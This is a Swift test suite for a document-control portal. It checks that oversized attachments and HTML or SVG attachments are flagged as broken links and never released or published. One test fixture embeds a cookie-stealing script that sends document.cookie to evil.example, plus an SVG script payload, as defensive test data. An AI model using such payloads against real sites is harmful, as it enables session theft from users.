import Foundation
import Testing

@testable import Control
@testable import Portal
@testable import Records
@testable import Repository

/// What the portal cannot publish is never released: an attachment over the size limit, or one a browser would run
/// as a page or script on the portal's origin (PRODUCT.md §4.1, §9).
@Suite("Attachments the portal cannot publish: too large or active content (PRODUCT.md §4.1)")
struct AttachmentSafetyTests {
    /// `stet check --format json` in the fixture: exit status and findings.
    static func check(_ fixture: GitFixture, _ extra: [String] = []) throws -> (status: Int32, findings: [[String: Any]]) {
        let run = try StetProcess.run(["check", "-C", fixture.repository.path, "--format", "json"] + extra)
        let object = try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [String: Any]
        return (run.status, object?["findings"] as? [[String: Any]] ?? [])
    }

    /// A branch adding SOP-QA-001 revision 1 with `body` and the files in `files`, approved by owner and QA.
    static func approvedBranch(_ fixture: GitFixture, body: String, files: [String: [UInt8]]) throws {
        try fixture.writeConfiguration()
        try fixture.commit("Configuration", as: "adam")
        try fixture.branch("add-sop")
        for (path, bytes) in files { try fixture.writeBytes(path, bytes) }
        try fixture.write("controlled-docs/SOP-QA-001.md", fixture.document(revision: 1, body: body))
        try fixture.commit("Add SOP-QA-001", as: "alice")
        try fixture.approve("SOP-QA-001", revision: 1, as: "olga")
        try fixture.approve("SOP-QA-001", revision: 1, as: "quinn")
    }

    @Test(.verifies("REQ-DOC-010")) func anAttachmentOverTheLimitIsABrokenLinkAndNeverReleased() throws {
        let fixture = try GitFixture()
        let big = [UInt8](repeating: 0, count: Attachments.maximumBytes + 1)
        try Self.approvedBranch(
            fixture, body: "Fill in [the batch form](forms/batch.pdf).", files: ["controlled-docs/forms/batch.pdf": big])

        // Before the merge: `check` says so at the link's line, with the path and the limit.
        let checked = try Self.check(fixture, ["--base", "main"])
        #expect(checked.status == 1)
        let broken = try #require(checked.findings.first { $0["code"] as? String == "broken-link" })
        #expect(broken["severity"] as? String == "error")
        #expect(broken["file"] as? String == "controlled-docs/SOP-QA-001.md")
        #expect(broken["line"] as? Int == 10)
        let message = try #require(broken["message"] as? String)
        #expect(message.contains("controlled-docs/forms/batch.pdf") && message.contains("64 MiB"))

        // Merged anyway: `verify` reports it at the commit that brought it to main; the revision is never released.
        let added = try fixture.merge("add-sop")
        let run = try VerifyRun(fixture)
        #expect(run.status == 1)
        let finding = try #require(run.finding("broken-link:\(added):SOP-QA-001"), "\(run.findings)")
        #expect(finding["severity"] as? String == "error")
        #expect((finding["message"] as? String)?.contains("64 MiB") == true)
        #expect(fixture.status("SOP-QA-001", in: try fixture.record())?.inForce == nil)

        // The portal still builds.
        let out = fixture.root.appendingPathComponent("site")
        let build = try StetProcess.run(["build", "-C", fixture.repository.path, "--out", out.path, "--quiet"])
        #expect(build.status == 0, "\(build.stderr)")
    }

    @Test(.verifies("REQ-DOC-010")) func aBlobThatCannotBePublishedLeavesTheRestOfThePortal() throws {
        let fixture = try GitFixture()
        try fixture.bootstrapWithImage()
        // A release recorded before the limit was enforced: its form has grown over the limit in the object store.
        try fixture.writeBytes("big.pdf", [UInt8](repeating: 7, count: Attachments.maximumBytes + 1))
        let bigBlob = try #require(
            ObjectID(try fixture.git(["hash-object", "-w", "big.pdf"]).trimmingCharacters(in: .whitespacesAndNewlines)))
        var release = try #require(fixture.status("SOP-QA-001", in: try fixture.record())?.inForce)
        let form = try #require(release.attachments.firstIndex { $0.path.rawValue.hasSuffix(".docx") })
        release.attachments[form].blob = bigBlob
        let image = try #require(release.attachments.first { $0.path.rawValue.hasSuffix("flow.png") }?.blob)

        var files: [String: Data] = [:]
        let sizes = try AttachmentPublisher.publish(
            [release], repository: try GitRepository(at: fixture.repository), into: &files)
        #expect(files.keys.sorted() == ["attachments/\(image.hex)/flow.png"])
        #expect(sizes[bigBlob] == nil)
        let listed = AttachmentPublisher.list(release.attachments, sizes: sizes, root: "../../")
        let row = try #require(listed.first { $0["name"] as? String == "FORM-QA-001.docx" })
        #expect((row["size"] as? String)?.hasPrefix("not published") == true)
        #expect(row["href"] == nil)
        #expect(AttachmentPublisher.published(release.attachments, sizes: sizes)[form].blob == nil)
    }

    @Test(.verifies("REQ-DOC-010")) func htmlAndSVGAttachmentsAreRefusedAndNeverPublished() throws {
        let fixture = try GitFixture()
        let html = Array("<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>\n".utf8)
        let svg = Array("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n".utf8)
        try Self.approvedBranch(
            fixture, body: "[Fill in the form](forms/form.html)\n\n![flow](images/flow.SVG)",
            files: ["controlled-docs/forms/form.html": html, "controlled-docs/images/flow.SVG": svg])

        let checked = try Self.check(fixture)
        #expect(checked.status == 1)
        let broken = checked.findings.filter { $0["code"] as? String == "broken-link" }
        #expect(broken.map { $0["line"] as? Int } == [10, 12])
        #expect(broken.allSatisfy { $0["severity"] as? String == "error" })
        #expect((broken.first?["message"] as? String)?.contains("(.html)") == true)
        #expect((broken.last?["message"] as? String)?.contains("(.svg)") == true)

        let added = try fixture.merge("add-sop")
        let run = try VerifyRun(fixture)
        #expect(run.status == 1)
        #expect(run.finding("broken-link:\(added):SOP-QA-001")?["severity"] as? String == "error")
        #expect(fixture.status("SOP-QA-001", in: try fixture.record())?.inForce == nil)

        let out = fixture.root.appendingPathComponent("site")
        let build = try StetProcess.run(["build", "-C", fixture.repository.path, "--out", out.path, "--quiet"])
        #expect(build.status == 0, "\(build.stderr)")
        #expect(!FileManager.default.fileExists(atPath: out.appendingPathComponent("attachments").path))
    }
}

@Suite("Approvals given for other attachment bytes say so (PRODUCT.md §4.1)")
struct AttachmentApprovalMessageTests {
    @Test(.verifies("REQ-DOC-010")) func approvalsOfOtherAttachmentBytesAreNamedInTheFinding() throws {
        let fixture = try GitFixture()
        try fixture.bootstrapWithImage()
        try fixture.branch("rev2")
        try fixture.write("controlled-docs/SOP-QA-001.md", fixture.document(revision: 2, body: "![Process flow](images/flow.png)"))
        try fixture.writeBytes("controlled-docs/images/flow.png", GitFixture.png(2))
        try fixture.commit("Revision 2 with a new flow chart", as: "alice")
        try fixture.approve("SOP-QA-001", revision: 2, as: "olga")
        try fixture.approve("SOP-QA-001", revision: 2, as: "quinn")
        // The image changes again after both approvals, then the branch is merged.
        try fixture.writeBytes("controlled-docs/images/flow.png", GitFixture.png(3))
        try fixture.commit("Tweak the flow chart", as: "alice")
        let merge = try fixture.merge("rev2")

        let run = try VerifyRun(fixture)
        #expect(run.status == 1)
        let finding = try #require(run.finding("unapproved-change:\(merge):SOP-QA-001"), "\(run.findings)")
        #expect(finding["severity"] as? String == "error")
        let message = try #require(finding["message"] as? String)
        #expect(message.contains("still needs owner, qa-approver"))
        #expect(message.contains("approvals were given, but for other bytes of its attachments controlled-docs/images/flow.png"))
        #expect(fixture.status("SOP-QA-001", in: try fixture.record())?.inForce?.revision.number == 1)
    }
}
